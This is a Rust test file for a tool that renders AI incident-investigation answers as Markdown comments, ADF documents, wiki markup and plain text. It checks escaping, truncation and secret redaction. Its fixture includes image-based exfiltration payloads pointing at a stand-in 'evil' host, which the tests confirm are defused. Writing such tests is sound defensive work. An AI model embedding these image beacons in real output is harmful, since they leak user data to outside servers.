use serde_json::{Value, json};

use super::*;
use crate::agent::{Finish, Usage};
use crate::answer::Answer;
use crate::question::Question;
use crate::sink::Budget;

const ANSWER: &str = "**Root cause:** the pod `payments-1` is out of memory.\n\nSee [the graph](https://g/1) and ask \
    @oncall-team or &#64;others.\n\n## Evidence\n\n- limit *64Mi* [E2:4]\n  1. deep {macro}\n  2. !x.png! [~ann]\n- two\n\n\
    ```yaml\nresources: {limits: 1}\n{noformat}\n@inside\n```\n\n![leak](https://evil/?d=1)\n\n<img src=\"https://evil/\">\n\n\
    | a | b |\n|---|---|\n| 1 | 2 |\n";

fn run(text: &str) -> Investigation {
    Investigation {
        run_id: "0190-abc".to_owned(),
        question: Question::default(),
        model: "m".to_owned(),
        answer: Answer { text: text.to_owned(), ..Answer::default() },
        exhibits: Vec::new(),
        messages: Vec::new(),
        usage: Usage::default(),
        calls: 1,
        summaries: 0,
        cost: None,
        finish: Finish::Answered,
        started_at: String::new(),
        duration_seconds: 1.0,
        budget: Budget::default(),
        metadata: serde_json::Map::new(),
        sections: Vec::new(),
    }
}

fn same(text: &str) -> String {
    text.to_owned()
}

/// The rules of the published schema that a generator can break.
fn check(node: &Value, parent: &str) {
    let kind = node["type"].as_str().unwrap();
    let may = match parent {
        "" => kind == "doc",
        "doc" => ["paragraph", "heading", "codeBlock", "bulletList", "orderedList", "rule"].contains(&kind),
        "bulletList" | "orderedList" => kind == "listItem",
        "listItem" => ["paragraph", "codeBlock", "bulletList", "orderedList"].contains(&kind),
        "paragraph" | "heading" => ["text", "hardBreak"].contains(&kind),
        "codeBlock" => kind == "text" && node.get("marks").is_none(),
        _ => false,
    };
    assert!(may, "{kind} in {parent}: {node}");
    if kind == "text" {
        assert!(!node["text"].as_str().unwrap().is_empty(), "{node}");
        let marks: Vec<&str> = node["marks"]
            .as_array()
            .into_iter()
            .flatten()
            .map(|mark| mark["type"].as_str().unwrap())
            .collect();
        assert!(
            !marks.contains(&"code") || marks.iter().all(|mark| ["code", "link"].contains(mark)),
            "{node}"
        );
        return;
    }
    let content = node["content"].as_array();
    if kind == "listItem" {
        let first = content.unwrap()[0]["type"].as_str().unwrap();
        assert!(["paragraph", "codeBlock"].contains(&first), "{node}");
    }
    for child in content.into_iter().flatten() {
        check(child, kind);
    }
}

#[test]
fn markdown_calls_nobody_and_loads_nothing() {
    let text = to_markdown_comment(&run(ANSWER), 65_536, &same);
    assert!(
        text.starts_with("**Investigation by holmes-rs**\n\n**Root cause:** the pod `payments-1`"),
        "{text}"
    );
    assert!(text.ends_with("\n\n<sub>holmes-rs run 0190-abc</sub>\n"), "{text}");
    assert!(
        text.contains("ask @<!-- -->oncall-team or @<!-- -->others.") && text.contains("\n@inside\n"),
        "{text}"
    );
    assert!(text.contains("[leak](https://evil/?d=1)") && !text.contains("![leak]"), "{text}");
    assert!(text.contains("&lt;img src"), "{text}");
}

#[test]
fn a_document_keeps_the_rules_of_its_schema() {
    for text in
        [ANSWER, "", "-\n- # h\n-\n  ---\n", "1. a\n\n   b\n", "`a\nb` **`c`**", "- - - - - - - - deep"]
    {
        check(&to_adf(&run(text), 32_767, &same), "");
    }
    let document = to_adf(&run(ANSWER), 32_767, &same);
    assert_eq!(document["version"], 1);
    assert_eq!(
        document["content"][1]["content"][0],
        json!({"type": "text", "text": "Root cause:", "marks": [{"type": "strong"}]})
    );
    let text = document.to_string();
    for part in [
        "\"language\":\"yaml\"",
        "\"href\":\"https://g/1\"",
        "orderedList",
        "1 | 2",
        "holmes-rs run 0190-abc",
    ] {
        assert!(text.contains(part), "{part}: {text}");
    }
}

#[test]
fn wiki_markup_of_an_answer_stays_text() {
    let text = to_wiki(&run(ANSWER), 32_767, &same);
    for part in [
        "*Investigation by holmes\\-rs*".replace("\\-", "-"),
        "*Root cause:* the pod {{payments-1}} is out of memory.".to_owned(),
        "[the graph|https://g/1]".to_owned(),
        "h2. Evidence".to_owned(),
        "* limit _64Mi_ \\[E2:4\\]".to_owned(),
        "*# deep \\{macro\\}".to_owned(),
        "*# \\!x.png\\! \\[\\~ann\\]".to_owned(),
        "{noformat}\nresources: {limits: 1}\n{ noformat}\n@inside\n{noformat}".to_owned(),
        "_holmes-rs run 0190-abc_".to_owned(),
    ] {
        assert!(text.contains(&part), "{part}: {text}");
    }
}

#[test]
fn plain_text_reads_well() {
    assert_eq!(
        to_plain(
            &run("**Root cause:** x\n\n- a\n  1. b\n  2. c\n\n```\nkubectl get\n  pods\n```\n[g](http://g)"),
            25_000,
            &same
        ),
        "Investigation by holmes-rs\n\nRoot cause: x\n\n- a\n\n  1. b\n  2. c\n\n  kubectl get\n    pods\n\ng (http://g)\n\nholmes-rs run 0190-abc"
    );
}

#[test]
fn long_answers_are_cut_and_keep_their_marker() {
    let long = format!("{}\n\n```\n{}", "word ".repeat(200), "line of code @x\n\n* a\n".repeat(9_000));
    let paragraphs = "a paragraph of some words\n\n".repeat(9_000);
    for text in [&long, &paragraphs] {
        let run = run(text);
        for (text, most) in [
            (to_markdown_comment(&run, 65_536, &same), 65_536),
            (to_wiki(&run, 32_767, &same), 32_767),
            (to_plain(&run, 25_000, &same), 25_000),
        ] {
            assert!(text.chars().count() <= most, "{}", text.chars().count());
            assert!(text.contains("holmes-rs run 0190-abc") && text.contains("is left out"), "{text:.200}");
            assert_eq!(text.matches("```").count() % 2, 0);
        }
        let document = to_adf(&run, 32_767, &same);
        check(&document, "");
        assert!(document.to_string().contains("is left out"));
    }
}

#[test]
fn secrets_are_replaced_before_anything_is_written() {
    let hide = |text: &str| text.replace("hunter2", "***");
    let run = run("pw is hunter2");
    for text in [
        to_markdown_comment(&run, 65_536, &hide),
        to_adf(&run, 32_767, &hide).to_string(),
        to_wiki(&run, 32_767, &hide),
        to_plain(&run, 25_000, &hide),
    ] {
        assert!(!text.contains("hunter2") && text.contains("holmes-rs run 0190-abc"), "{text}");
    }
}
